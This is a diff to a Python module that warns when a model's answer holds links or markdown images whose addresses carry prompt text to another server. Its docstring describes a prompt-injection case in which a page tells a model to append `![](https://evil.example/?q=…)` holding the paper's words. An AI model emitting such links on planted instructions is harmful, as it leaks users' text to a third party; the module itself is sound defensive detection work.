@@ -1,7 +1,8 @@
 """Find addresses in an answer that would send text of the prompt to another server.
 
-A web page or a document may tell a model to end its answer with `![](https://evil.example/?q=…)`. If somebody displays
-this picture, or follows such a link, its address is sent to that server, with the words of the paper in it.
+A web page or a document may tell a model to end its answer with `![](https://evil.example/?q=…)`, and to put words of
+the paper into this address. If somebody displays this picture, or follows such a link, the words are sent to that
+server.
 """
 
 from __future__ import annotations
@@ -45,11 +46,11 @@ class _Said:
 
 
 def warnings_about(answer: str, shown: Sequence[Turn], known: Sequence[Source] = ()) -> tuple[str, ...]:
-    """Return warnings about addresses in an answer that contain text of the prompt, and about the servers from which
-    the answer shows pictures.
+    """Return warnings about addresses in an answer that contain text of the prompt, and about servers from which the
+    answer shows pictures.
 
-    `shown` are the turns that the model got, and `known` are sources that a search found. There is no warning about
-    addresses that occur in these.
+    `shown` are the messages that the model got, and `known` are sources that a search found. Addresses that occur in
+    these cause no warning.
     """
     texts = [each.content for each in shown]
     found = list(_strange(answer, [*texts, *(each.url for each in known if each.url)]))
@@ -57,8 +58,9 @@ def warnings_about(answer: str, shown: Sequence[Turn], known: Sequence[Source] =
         return ()
     prompt = _plain("\n".join(texts))
     told = [
-        f"The address at {host} contains words of your texts, and whoever opens it sends them to that server. Do not "
-        "open it, and remove it before you approve."
+        f"An address at {host} in this answer contains words of your texts. Whoever opens it sends them to that "
+        f"server. "
+        "Do not open it, and remove it before you approve."
         for host in dict.fromkeys(host for host, said in _by_host(found).items() if _carries(said, prompt))
     ]
     pictures = dict.fromkeys(_host(each) for each in _pictures(answer) if each in found)
